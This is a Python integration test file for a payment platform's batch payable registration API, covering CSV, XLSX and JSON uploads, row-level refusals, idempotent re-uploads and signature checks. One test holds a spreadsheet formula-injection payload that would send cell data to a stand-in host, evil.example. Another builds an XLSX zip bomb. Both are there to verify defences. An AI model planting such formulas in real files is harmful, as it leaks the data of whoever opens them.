"""Batch registration over the signed unit API (P5): a school's term tuition file registers
every pupil's payable in one go, a file with bad rows registers nothing (or only the good rows
when asked), re-uploading changes nothing, and every refusal says which row and why."""

from __future__ import annotations

import io
import json
from typing import Any

import httpx
from openpyxl import load_workbook

from publicpay.adapters.payables.batch_files.reading import MAX_FILE_BYTES
from tests.integration.batch_kit import (
    TUITION_FEN,
    XLSX,
    csv_bytes,
    spoil,
    tuition_rows,
    upload,
    xlsx_bytes,
)
from tests.support.client import SignedClient
from tests.support.db import counts

BAD_ID = "330105196311138237"  # wrong GB 11643 check character


def _registered(api: SignedClient, biz_no: str) -> httpx.Response:
    return api.get(f"/api/v1/payables?biz_no={biz_no}")


def test_a_100_row_school_tuition_file_registers_100_payables(
    stack: Any, school_api: SignedClient
) -> None:
    rows = tuition_rows(100)
    before = counts(stack)
    response = upload(school_api, csv_bytes(rows, "gbk"), query="file_name=tuition.csv")
    assert response.status_code == 201, response.text
    batch = response.json()
    assert (batch["status"], batch["row_count"], batch["created_count"]) == ("registered", 100, 100)
    assert (batch["accepted_count"], batch["refused_count"], batch["existing_count"]) == (100, 0, 0)
    assert batch["amount_fen"] == 100 * TUITION_FEN
    assert batch["file_name"] == "tuition.csv"
    assert [r["row"] for r in batch["rows"]] == list(range(2, 102))
    assert all(r["status"] == "accepted" and r["errors"] == {} for r in batch["rows"])
    assert len({r["payment_code"] for r in batch["rows"]}) == 100
    after = counts(stack)
    assert after["payables"] - before["payables"] == 100
    assert after["events"] - before["events"] == 100  # payable.created, as for one registration
    last = batch["rows"][-1]
    payable = _registered(school_api, last["biz_no"]).json()
    assert (payable["payment_code"], payable["status"]) == (last["payment_code"], "unpaid")
    assert (payable["amount_fen"], payable["due_date"]) == (TUITION_FEN, "2026-12-15")
    assert payable["payer"]["name"] == "学生0099"


def test_a_file_with_two_bad_rows_registers_nothing_and_says_why(
    stack: Any, school_api: SignedClient
) -> None:
    rows = spoil(tuition_rows(10), {2: {3: BAD_ID}, 6: {5: "JY9999", 7: "12.345"}})
    before = counts(stack)
    response = upload(school_api, csv_bytes(rows))
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["type"] == "urn:publicpay:problem:batch_refused"
    assert problem["errors"] == {
        "row4.payer.id_no": "公民身份号码无效（GB 11643 校验失败）",
        "row8.amount_fen": "金额应为以元为单位、精确到分的数值，如 1100 或 1100.50",
    }
    batch = problem["batch"]
    assert (batch["status"], batch["refused_count"], batch["accepted_count"]) == ("refused", 2, 8)
    assert all(r["payment_code"] is None for r in batch["rows"])
    assert counts(stack) == before
    assert _registered(school_api, rows[0][0]).status_code == 404
    stored = school_api.get(f"/api/v1/payable-batches/{batch['id']}")
    assert stored.status_code == 200
    assert stored.json()["rows"] == batch["rows"]
    # once the amount is fixed, the unknown item is refused in its turn, with its reason
    fixed = upload(school_api, csv_bytes(spoil(rows, {6: {7: "1100"}})))
    assert fixed.json()["errors"]["row8.item_code"] == "收费项目 JY9999 不存在"


def test_accept_partial_registers_only_the_good_rows(stack: Any, school_api: SignedClient) -> None:
    rows = spoil(tuition_rows(10), {2: {3: BAD_ID}, 6: {5: "GA0101"}})
    before = counts(stack)
    response = upload(school_api, csv_bytes(rows), query="accept_partial=true")
    assert response.status_code == 201, response.text
    batch = response.json()
    assert (batch["created_count"], batch["accepted_count"], batch["refused_count"]) == (8, 8, 2)
    refused = {r["row"]: r for r in batch["rows"] if r["status"] == "refused"}
    assert set(refused) == {4, 8}
    assert refused[8]["errors"] == {"item_code": "单位未获授权收取项目 GA0101"}
    assert counts(stack)["payables"] - before["payables"] == 8
    assert _registered(school_api, rows[0][0]).json()["status"] == "unpaid"
    assert _registered(school_api, rows[2][0]).status_code == 404
    assert _registered(school_api, rows[6][0]).status_code == 404


def test_uploading_the_same_file_again_changes_nothing(
    stack: Any, school_api: SignedClient
) -> None:
    body = csv_bytes(tuition_rows(20))
    first = upload(school_api, body).json()
    before = counts(stack)
    again = upload(school_api, body)
    assert again.status_code == 200
    batch = again.json()
    assert (batch["status"], batch["created_count"], batch["existing_count"]) == (
        "registered", 0, 20,
    )  # fmt: skip
    assert [r["status_label"] for r in batch["rows"]] == ["此前已登记"] * 20
    assert [r["payment_code"] for r in batch["rows"]] == [r["payment_code"] for r in first["rows"]]
    assert batch["file_sha256"] == first["file_sha256"]
    assert counts(stack) == before


def test_a_changed_row_for_a_registered_biz_no_is_refused(school_api: SignedClient) -> None:
    rows = tuition_rows(3)
    first = upload(school_api, csv_bytes(rows)).json()
    changed = upload(school_api, csv_bytes(spoil(rows, {1: {6: "2"}})), query="accept_partial=true")
    assert changed.status_code == 200  # nothing new, nothing refused but the changed row
    batch = changed.json()
    assert [r["status"] for r in batch["rows"]] == ["existing", "refused", "existing"]
    reason = batch["rows"][1]["errors"]["biz_no"]
    assert reason.startswith("业务编号已用不同的内容登记过（缴款码 ")
    assert first["rows"][1]["payment_code"] in reason


def test_a_dry_run_reports_every_row_and_registers_nothing(
    stack: Any, school_api: SignedClient
) -> None:
    rows = spoil(tuition_rows(5), {4: {2: "学生"}})
    before = counts(stack)
    response = upload(school_api, csv_bytes(rows), query="dry_run=true")
    assert response.status_code == 200
    batch = response.json()
    assert batch["status"] == "dry_run"
    assert [r["status_label"] for r in batch["rows"]] == ["可登记"] * 4 + ["拒绝"]
    assert batch["rows"][4]["errors"] == {"payer.type": "缴款人类型应为“个人”或“单位”"}
    assert all(r["payment_code"] is None for r in batch["rows"])
    assert batch["amount_fen"] == 4 * TUITION_FEN
    assert counts(stack) == before


def test_an_xlsx_file_with_several_lines_per_payable_and_its_excel_report(
    school_api: SignedClient, api: SignedClient
) -> None:
    pupil = tuition_rows(1)[0]
    boarding = [pupil[0], None, None, None, None, "JY0102", 1, 800, None, None]
    number_id = [*tuition_rows(1)[0][:3], 330105196311138236, *tuition_rows(1)[0][4:]]
    response = upload(school_api, xlsx_bytes([pupil, boarding, number_id]), XLSX,
                      query="accept_partial=true")  # fmt: skip
    assert response.status_code == 201, response.text
    batch = response.json()
    first, second, third = batch["rows"]
    assert first["payment_code"] == second["payment_code"]
    assert (first["amount_fen"], second["amount_fen"]) == (TUITION_FEN, 80_000)
    assert "文本格式" in third["errors"]["payer.id_no"]
    payable = _registered(school_api, pupil[0]).json()
    assert [line["item_code"] for line in payable["lines"]] == ["JY0101", "JY0102"]
    report = school_api.get(f"/api/v1/payable-batches/{batch['id']}/report.xlsx")
    assert report.status_code == 200
    assert report.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(report.content))["逐行结果"]
    lines = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[6]) for r in lines] == [(2, "已登记"), (3, "已登记"), (4, "拒绝")]
    assert lines[0][7] == first["payment_code"]
    assert str(lines[2][8]).startswith("证件号码：证件号码须以文本格式填写")
    assert api.get(f"/api/v1/payable-batches/{batch['id']}").status_code == 404  # another unit


def test_json_rows_are_an_alternative_to_a_file(school_api: SignedClient) -> None:
    pupil = tuition_rows(1)[0]
    rows = [
        {"biz_no": pupil[0], "payer_name": pupil[1], "payer_type": "person", "id_no": pupil[3],
         "item_code": "JY0101"},
        {"biz_no": pupil[0], "item_code": "JY0102", "quantity": 1},
    ]  # fmt: skip
    response = school_api.post("/api/v1/payable-batches", {"rows": rows, "file_name": "x.json"})
    assert response.status_code == 201, response.text
    batch = response.json()
    assert (batch["source"], batch["file_name"], batch["created_count"]) == ("json", "x.json", 1)
    assert batch["amount_fen"] == TUITION_FEN + 80_000
    wrong = school_api.post("/api/v1/payable-batches", {"rows": [{**rows[0], "quantity": 0}]})
    assert wrong.status_code == 422
    assert wrong.json()["errors"] == {"rows.0.quantity": "数值过小"}


def test_a_bad_signature_is_refused_before_the_file_is_read(
    stack: Any, school_api: SignedClient
) -> None:
    body = csv_bytes(tuition_rows(2))
    path = "/api/v1/payable-batches"
    before = counts(stack)
    forged = SignedClient(school_api.base_url, school_api.app_id, "not-the-secret")
    assert upload(forged, body).status_code == 401
    headers = {**school_api.headers("POST", path, body), "Content-Type": "text/csv"}
    tampered = school_api.http.post(path, content=body.replace(b"1100.00", b"0001.00"),
                                    headers=headers)  # fmt: skip
    assert tampered.status_code == 401
    assert tampered.json()["detail"] == "签名校验失败"
    unsigned = school_api.http.post(path, content=body, headers={"Content-Type": "text/csv"})
    assert unsigned.status_code == 401
    assert counts(stack) == before


def test_files_that_cannot_be_read_are_refused_as_a_whole(school_api: SignedClient) -> None:
    missing = upload(school_api, "业务编号,缴款人姓名\r\nA,甲\r\n".encode())
    assert missing.status_code == 422
    assert missing.json()["errors"] == {
        "file": "缺少必需的列：缴款人类型(个人/单位)、证件号码、项目编码"
    }
    assert upload(school_api, b"a,b", "text/plain").status_code == 415
    too_large = upload(school_api, b"x" * (MAX_FILE_BYTES + 1))
    assert too_large.status_code == 413
    assert too_large.json()["detail"] == "文件超过 4 MB，请拆分后分批上传"
    xls = upload(school_api, b"\xd0\xcf\x11\xe0" + b"\0" * 64, XLSX)
    assert xls.status_code == 422


def test_openapi_documents_the_batch_endpoints(base_url: str) -> None:
    spec = httpx.get(f"{base_url}/openapi.json").json()
    post = spec["paths"]["/api/v1/payable-batches"]["post"]
    assert set(post["requestBody"]["content"]) == {"text/csv", XLSX, "application/json"}
    rows = post["requestBody"]["content"]["application/json"]["schema"]["properties"]["rows"]
    assert "$ref" not in json.dumps(rows)
    assert "/api/v1/payable-batches/{batch_id}/report.xlsx" in spec["paths"]
    assert "BatchOut" in spec["components"]["schemas"]


def test_the_batch_report_shows_formula_like_names_as_text(
    stack: Any, school_api: SignedClient
) -> None:
    """A payer name (from an upload) that a spreadsheet would run is written as text."""
    pupil = tuition_rows(1)[0]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    row = {"biz_no": pupil[0], "payer_name": evil, "payer_type": "person", "id_no": pupil[3],
           "item_code": "JY0101"}  # fmt: skip
    batch = school_api.post("/api/v1/payable-batches?dry_run=true", {"rows": [row]}).json()

    report = school_api.get(f"/api/v1/payable-batches/{batch['id']}/report.xlsx")

    sheet = load_workbook(io.BytesIO(report.content))["逐行结果"]
    cell = sheet.cell(row=2, column=3)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)


def test_an_xlsx_zip_bomb_is_refused_with_a_chinese_message_and_nothing_changes(
    stack: Any, school_api: SignedClient
) -> None:
    from tests.unit.test_batch_files import _workbook_with_shared_strings

    bomb = _workbook_with_shared_strings(90_000_000)
    before = counts(stack)

    answer = upload(school_api, bomb, XLSX)

    assert answer.status_code == 422
    assert answer.headers["content-type"] == "application/problem+json"
    assert "疑似压缩炸弹" in answer.json()["errors"]["file"]
    assert counts(stack) == before
